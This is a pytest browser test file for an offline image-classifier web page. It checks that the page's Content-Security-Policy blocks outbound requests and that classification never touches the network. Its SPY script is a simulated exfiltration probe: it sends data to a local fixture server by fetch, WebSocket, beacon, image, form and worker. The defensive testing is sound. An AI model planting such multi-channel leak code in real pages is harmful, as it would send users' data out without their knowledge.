"""What the static page requests: its own files, once, and nothing while it classifies."""

from __future__ import annotations

import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import numpy as np
import pytest
from browser import IN_CHROMIUM, visitor
from image_files import encoded
from PIL import Image
from playwright.sync_api import expect
from sites import choose, kept, opened, rows, served

from core.data.phantom.simulate import simulate
from core.site.shell import PAGES

if TYPE_CHECKING:
    from collections.abc import Iterator
    from http.server import SimpleHTTPRequestHandler
    from pathlib import Path

    from playwright.sync_api import Browser

pytestmark = [*IN_CHROMIUM, pytest.mark.slow]
IMAGE = encoded(Image.fromarray(simulate("benign", np.random.default_rng(9)).image))
POLICY = re.compile(rb'<meta http-equiv="Content-Security-Policy"[^>]*>\n')
# Requests to another address, of every kind that a script could make, from the page and from a worker.
SPY = """async (address) => {
    const attempt = async (url) => {
        try { await fetch(url, { method: "POST", mode: "no-cors", body: "image" }); } catch {}
        try { new WebSocket(url.replace("http", "ws")); } catch {}
    };
    await attempt(`${address}page`);
    navigator.sendBeacon?.(`${address}beacon`, "image");
    const image = new Image();
    image.src = `${address}image?of=you`;
    document.body.append(image);
    const form = document.createElement("form");
    Object.assign(form, { action: `${address}form`, method: "post", target: "frame" });
    const frame = document.createElement("iframe");
    frame.name = "frame";
    document.body.append(frame, form);
    form.submit();
    const code = `onmessage = async ({ data: url }) => {
        try { await fetch(url, { method: "POST", mode: "no-cors", body: "image" }); } catch {}
        postMessage("done");
    }`;
    const blob = new Blob([code], { type: "text/javascript" });
    const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
    const done = new Promise((resolve) => { worker.onmessage = resolve; });
    worker.postMessage(`${address}worker`);
    await done;
    await new Promise((resolve) => { setTimeout(resolve, 500); });
}"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another address, and the paths that were asked for there."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(urlsplit(self.path).path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name of the base class

        def log_message(self, *_: Any) -> None:
            """Write nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()
        thread.join()


def spied(browser: Browser, site: Path, address: str) -> None:
    with served(site) as own:
        context = browser.new_context()
        page = opened(context.new_page(), own)
        page.evaluate(SPY, address)
        context.close()


def test_the_policy_blocks_requests_to_other_addresses(browser, phantom_site, elsewhere) -> None:
    address, asked = elsewhere
    spied(browser, phantom_site, address)
    assert asked == []


def test_without_the_policy_the_same_requests_leave(browser, phantom_site, elsewhere, tmp_path) -> None:
    address, asked = elsewhere
    open_site = shutil.copytree(phantom_site, tmp_path / "open")
    index = open_site / "index.html"
    without = POLICY.sub(b"", index.read_bytes())
    assert without != index.read_bytes()
    index.write_bytes(without)
    spied(browser, open_site, address)
    assert {"/page", "/beacon", "/image", "/form", "/worker"} <= set(asked)


def test_every_page_has_the_policy_before_anything_that_it_loads(phantom_site) -> None:
    for page in PAGES:
        if (phantom_site / page.file).is_file():
            text = (phantom_site / page.file).read_text(encoding="utf-8")
            assert text.index("Content-Security-Policy") < min(text.index("<script"), text.index("<link"))


def test_nothing_is_requested_while_images_are_classified(browser, phantom_site) -> None:
    asked: list[str] = []
    with served(phantom_site, asked) as address, visitor(browser) as page:
        opened(page, address)
        kept(page)
        asked.clear()
        seen: list[str] = []
        page.on("request", lambda request: seen.append(request.url))
        choose(page, {"one.png": IMAGE, "two.png": IMAGE})
        page.click("#crop")
        page.fill("#crop-width", "200")
        page.keyboard.press("Enter")
        expect(page.locator("#comparison")).to_contain_text("Crop, 200")
        assert len(rows(page)) == 2
        assert asked == []
        assert [url for url in seen if not url.startswith(("blob:", "data:"))] == []


def test_it_works_without_a_network_after_the_first_visit(browser, phantom_site) -> None:
    with visitor(browser) as page:
        with served(phantom_site) as address:
            opened(page, address)
            kept(page)
        page.goto("about:blank")
        opened(page, address)  # nobody answers there any more
        choose(page, {"image.png": IMAGE})
        assert len(rows(page)) == 1
        for other in PAGES:
            if (phantom_site / other.file).is_file():
                page.goto(f"{address}{other.file}")
                expect(page.get_by_role("heading", level=1)).to_have_text(other.title)


def test_a_large_file_is_fetched_once(browser, phantom_site) -> None:
    asked: list[str] = []
    with served(phantom_site, asked) as address, visitor(browser) as page:
        opened(page, address)
        kept(page)
    for name in ("model.onnx", "ort/ort-wasm-simd-threaded.wasm", "domain.bin"):
        assert asked.count(f"/{name}") == 1


def test_it_works_in_a_sub_folder_of_a_server(browser, phantom_site, tmp_path) -> None:
    shutil.copytree(phantom_site, tmp_path / "www" / "some where" / "site")
    with served(tmp_path / "www") as address, visitor(browser) as page:
        opened(page, f"{address}some%20where/site/")
        kept(page)
        choose(page, {"image.png": IMAGE})
        assert len(rows(page)) == 1


def test_opened_as_a_file_it_says_what_it_needs(browser, phantom_site) -> None:
    page = browser.new_page()
    page.goto(f"file://{phantom_site}/index.html")
    expect(page.get_by_text("python -m http.server")).to_be_visible()
    page.close()


def test_a_network_of_another_version_is_refused(browser, phantom_site, tmp_path) -> None:
    site = shutil.copytree(phantom_site, tmp_path / "site")
    content = bytearray((site / "model.onnx").read_bytes())
    content[len(content) // 2] ^= 1
    (site / "model.onnx").write_bytes(content)
    with served(site) as address:
        page = browser.new_page()
        page.goto(address)
        expect(page.locator("#problems")).to_contain_text("The model cannot be loaded")
        page.close()


@pytest.mark.parametrize("name", ["classify.js", "words.js"])
def test_a_server_that_sends_scripts_as_text_is_named(browser, phantom_site, name) -> None:
    def answered(request: SimpleHTTPRequestHandler) -> bool:
        request.extensions_map = {".js": "text/plain" if request.path == f"/{name}" else "text/javascript"}
        return False

    with served(phantom_site, answered=answered) as address:
        page = browser.new_page()
        page.goto(address)
        expect(page.get_by_text("Its server must send .js files as JavaScript")).to_be_visible()
        page.close()


def test_without_scripts_it_says_that_it_needs_them(browser, phantom_site) -> None:
    with served(phantom_site) as address:
        context = browser.new_context(java_script_enabled=False)
        page = context.new_page()
        page.goto(address)
        expect(page.locator("noscript p")).to_be_visible()
        context.close()
